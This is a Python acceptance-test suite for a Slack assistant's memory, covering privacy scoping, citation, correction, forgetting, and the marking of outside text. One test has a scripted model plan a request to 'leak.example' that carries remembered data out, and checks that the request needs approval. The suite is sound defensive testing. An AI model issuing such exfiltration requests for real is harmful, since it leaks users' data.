"""Who reads what is remembered: citations, explanations, corrections, channels shared later, and strangers' text."""

import json
from pathlib import Path
from typing import Any

from sqlalchemy import URL

from infra.dev.scripted_model.script import Script
from tests.acceptance.app_fixture import AppScene, app_scene
from tests.acceptance.assertions import answered, answered_and_done, rows
from tests.acceptance.plans import ANSWERS, ENDS, concludes, fetch, planned, post, tool
from tests.acceptance.test_long_term_memory import ask, command, everything, facts_in, replies, say

OWN = "my canary is called zwitschermaschine and lives in Oslo"
MARKER = "mk7f3a9"


def id_in(words: str) -> str:
    """Return the id of the fact that the app says it remembers."""
    return words.partition("memory forget ")[2].partition("`")[0]


def answers_with(words: str) -> Script:
    return Script(role="planner", answer=json.dumps({"op": "reply", "text": words}), times=1)


async def told(scene: AppScene, who: str, channel: str, request: str, *texts: str) -> tuple[str, str]:
    """Have a person ask something; return its thread's root and what stands in it once all texts do."""
    mention = "" if channel == "@app" else "@Greenlight "
    ts = await scene.people.post(who, channel, f"{mention}{request}")
    return ts, await thread(scene, ts, *texts)


async def thread(scene: AppScene, ts: str, *texts: str) -> str:
    """Return what stands in a thread once all texts do."""

    def words(dump: Any) -> str:
        messages = [message for one in dump["channels"].values() for message in one["messages"]]
        own = [message for message in messages if message.get("thread_ts") == ts and message.get("bot_id")]
        return json.dumps(own, ensure_ascii=False)

    return words(await scene.people.wait_for(lambda dump: all(text in words(dump) for text in texts)))


async def test_a_persons_own_fact_is_cited_and_explained_without_its_words_to_others(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS]) as scene:
        fact = id_in(await say(scene, "Ada", "ops", f"remember for me everywhere that {OWN}"))
        scene.model.add(answers_with("The zwitschermaschine lives there."))
        ts, cited = await told(scene, "Ada", "ops", "where is my canary?", "From memory")
        assert f"something that only <@U0ADA> may read (`{fact}`)" in cited
        assert "Oslo" not in cited
        await scene.people.post("Grace", "ops", "@Greenlight !explain", thread_ts=ts)
        explained = await thread(scene, ts, "What I recalled")
        assert explained.count(f"only <@U0ADA> may read (`{fact}`)") == 2
        assert "Oslo" not in explained
        hers = await command(scene, "Grace", "ops", "explain")
        assert "only <@U0ADA> may read" in hers
        assert "Oslo" not in hers
        assert OWN in await command(scene, "Ada", "ops", "explain"), "she alone reads that"
        scene.model.add(answers_with("The zwitschermaschine lives there."))
        _, direct = await told(scene, "Ada", "@app", "where is my canary?", "From memory")
        assert OWN in direct, "nobody else reads there"


async def test_once_a_private_channel_is_public_nothing_cites_or_explains_what_was_said_there(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        await say(scene, "Ada", "leads", "remember that layoffs are announced on Monday")
        scene.model.add(planned(post("tell", "news come on Monday")))
        async with scene.asked("are there layoffs?", channel="leads") as observer:
            await observer.until(lambda seen: bool(seen.cards()), "the card")
            scene.workspace.backend.team.channels["G0LEADS"].is_private = False
            await scene.stop_app()
            await scene.start_app()
            await scene.people.post("Grace", "leads", "@Greenlight !explain", thread_ts=observer.thread_ts)
            await observer.until(lambda seen: seen.says("What I recalled"), "the explanation")
            await scene.click(observer, "Grace", "rejected")
            await observer.until(answered, "the answer")
            everything_said = await thread(scene, observer.thread_ts, "What I recalled")
            assert "announced" in scene.model.requests_of("planner")[0].last
        assert "announced" not in everything_said
        assert "something that may not be read here" in everything_said


async def test_an_answer_that_shares_a_common_word_with_a_fact_does_not_cite_it(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, concludes("All is well. ANSWER")]) as scene:
        await say(scene, "Ada", "ops", "remember that this tool of the canary sits with that kind of title and args")
        look = fetch("look", f"{scene.effects.url}/a")
        scene.model.add(planned(look))
        async with scene.asked("what about the canary?") as observer:
            await observer.until(answered_and_done, "the answer")
            assert facts_in(scene.model.requests_of("planner")[0])
            assert not observer.says("From memory"), "only the names of keys and of tools are the same"


async def test_private_words_do_not_get_into_a_fact_that_is_read_elsewhere(database_url: URL, tmp_path: Path) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, replies()]) as scene:
        team = id_in(await say(scene, "Ada", "ops", "remember for the team that canary team"))
        own = id_in(await say(scene, "Ada", "ops", "remember for me everywhere that canary ada"))
        ops = id_in(await say(scene, "Ada", "ops", "remember that canary ops"))
        for place in ("leads", "partners", "@app"):
            for fact in (team, own, ops):
                refused = await command(scene, "Ada", place, f"memory correct {fact} canary layoffs")
                assert "only where it was said" in refused
        assert "layoffs" not in await everything(database_url)
        assert facts_in(await ask(scene, "Ada", "ops", "the canary?")) == ["canary ada", "canary ops", "canary team"]
        leads = id_in(await say(scene, "Ada", "leads", "remember that canary leads"))
        assert "like this" in await command(scene, "Ada", "leads", f"memory correct {leads} canary layoffs")
        assert "like this" in await command(scene, "Ada", "incidents", f"memory correct {ops} canary of all")
        assert facts_in(await ask(scene, "Grace", "ops", "the canary?")) == ["canary of all", "canary team"]
        assert facts_in(await ask(scene, "Grace", "leads", "the canary?")) == ["canary layoffs", "canary team"]
        assert "canary ops" not in await everything(database_url), "corrected words are gone from every table"


async def test_what_was_said_before_others_were_invited_is_not_recalled_in_front_of_them(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, replies()]) as scene:
        await say(scene, "Ada", "ops", "remember that canary before")
        await say(scene, "Ada", "ops", "remember for me that canary mine")
        assert facts_in(await ask(scene, "Ada", "ops", "the canary?")) == ["canary before", "canary mine"]
        scene.workspace.backend.team.channels["C0OPS"].is_ext_shared = True
        await scene.stop_app()
        await scene.start_app()
        assert facts_in(await ask(scene, "Ada", "ops", "the canary?")) == []
        assert "canary" not in await command(scene, "Ada", "ops", "memory")
        await say(scene, "Ada", "ops", "remember that canary together")
        assert facts_in(await ask(scene, "Ada", "ops", "the canary?")) == ["canary together"]


async def approved_into_memory(scene: AppScene) -> None:
    """Have a model propose a fact with text of a page, and a person approve it."""
    learn = tool(
        "learn", "remember", {"text": f"the page says {MARKER} is the truth", "scope": "channel"}, depends_on=["look"]
    )
    scene.model.add(planned(fetch("look", f"{scene.effects.url}/{MARKER}"), learn, contains="first"))
    async with scene.asked("first") as observer:
        await scene.click(observer, "Grace", "approved")
        await observer.until(answered_and_done, "the answer")


async def test_strangers_text_that_was_approved_into_memory_is_marked_where_a_later_thread_repeats_it(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        await approved_into_memory(scene)
        listed = await command(scene, "Linus", "ops", "memory")
        assert "my words, in <@U0ADA>'s request" in listed
        assert "approved by <@U0GRACE>, 80% sure, holds text from outside: “Title of look”" in listed
        scene.model.add(planned(post("tell", f"go by {MARKER}"), post("other", "all is well"), contains="truth"))
        async with scene.asked("what is the truth?") as observer:
            await observer.until(lambda seen: bool(seen.cards()), "the card of both")
            card = json.dumps(observer.cards()[0].message["blocks"], ensure_ascii=False)
            assert card.count("holds text from outside") == 1
            tells, _, other = card.partition("all is well")
            assert "*text* holds text from outside: “memory, from Title of look”" in tells
            assert "from outside" not in other
        [(kept,)] = await rows(database_url, "SELECT key FROM store WHERE value ->> 'approved_by' = 'U0GRACE'")
        assert "like this" in await command(scene, "Ada", "ops", f"memory correct {kept} {MARKER} is what Ada says")
        said = await command(scene, "Linus", "ops", "memory")
        assert "from outside" not in said, "these are a person's own words"
        assert "sure" not in said


async def test_once_strangers_text_is_forgotten_any_words_of_that_plan_may_repeat_it(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        await approved_into_memory(scene)
        later = post("tell", "go by what you know", depends_on=["first"])
        scene.model.add(planned(post("first", "all is well"), later, contains="truth"))
        async with scene.asked("what is the truth?") as observer:
            await observer.until(lambda seen: bool(seen.cards()), "the first card")
            assert "from outside" not in json.dumps(observer.cards()[0].message["blocks"])
            [(fact,)] = await rows(database_url, "SELECT key FROM store")
            assert "forgotten" in await command(scene, "Ada", "ops", f"memory forget {fact}")
            await scene.click(observer, "Grace", "approved")
            await observer.until(lambda seen: seen.says("what was forgotten meanwhile"), "the second card")


async def test_a_rule_against_strangers_text_counts_for_what_is_recalled(database_url: URL, tmp_path: Path) -> None:
    def refuses(table: dict[str, object]) -> None:
        rule = {
            "name": "no strangers",
            "effect": "refuse",
            "tools": ["slack_post_message"],
            "when": "outside",
            "words": "not with outside text",
        }
        table["policy"] = {"rules": [rule]}

    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS], configuration=refuses) as scene:
        await approved_into_memory(scene)
        scene.model.add(planned(post("tell", f"go by {MARKER}"), contains="truth"))
        async with scene.asked("what is the truth?") as observer:
            await observer.until(lambda seen: seen.says("not with outside text"), "the refusal")
        assert MARKER not in json.dumps((await scene.people.dump())["channels"]["incidents"])


async def test_a_step_that_repeats_strangers_text_from_memory_asks_before_it_leaves(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        await approved_into_memory(scene)
        leak, other = (fetch(name, f"https://leak.example/{name}") for name in ("leak", "other"))
        leak["args"] = {"url": f"https://leak.example/tell?about={MARKER}"}
        scene.model.add(planned(leak, other, contains="truth"))
        async with scene.asked("what is the truth?") as observer:
            await observer.until(lambda seen: bool(seen.cards()), "the card")
            card = json.dumps(observer.cards()[0].message["blocks"])
            assert MARKER in card
            assert "/other" not in card, "what repeats nothing asks nobody"
            await scene.click(observer, "Grace", "rejected")
            await observer.until(answered, "the answer")


async def test_what_a_model_kept_and_repeated_is_shown_to_no_later_thread_once_it_is_forgotten(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, concludes("It is zwitschermaschine. ANSWER")]) as scene:
        learn = tool("learn", "remember", {"text": "the canary is zwitschermaschine", "scope": "channel"})
        scene.model.add(planned(learn, contains="first"))
        async with scene.asked("first") as observer:
            await scene.click(observer, "Grace", "approved")
            await observer.until(answered, "the answer")
        scene.model.add(replies())
        request = await ask_after(scene, "what is the canary?")
        assert "zwitschermaschine" in request
        [(fact,)] = await rows(database_url, "SELECT key FROM store")
        assert "forgotten" in await command(scene, "Ada", "ops", f"memory forget {fact}")
        assert await rows(database_url, "SELECT key FROM store") == []
        assert "zwitschermaschine" not in await ask_after(scene, "what is the canary?")


async def ask_after(scene: AppScene, request: str) -> str:
    """Have Ada ask something; return what the planner was asked."""
    before = len(scene.model.requests_of("planner"))
    await told(scene, "Ada", "ops", request, "Noted, reply")
    return scene.model.requests_of("planner")[before].last


async def test_a_list_of_many_facts_is_read_page_by_page_until_each_id_was_seen(
    database_url: URL, tmp_path: Path
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS]) as scene:
        await say(scene, "Ada", "ops", "remember that canary 0")
        copies = (
            "INSERT INTO store (prefix, key, value) SELECT prefix, lpad(to_hex(n), 8, '0'),"
            " jsonb_set(value, '{text}', to_jsonb('canary ' || n)) FROM store, generate_series(1, 90) n RETURNING key"
        )
        assert len(await rows(database_url, copies)) == 90
        for verb in ("memory", "memory mine"):
            first, second, third = [await command(scene, "Ada", "ops", f"{verb} {page}") for page in (1, 2, 3)]
            assert f"51 older ones: `/greenlight {verb} 2`" in first
            assert f"11 older ones: `/greenlight {verb} 3`" in second
            assert "older" not in third
            pages = "\n".join((first, second, third))
            assert all(f"`{number:08x}`" in pages for number in range(1, 91))
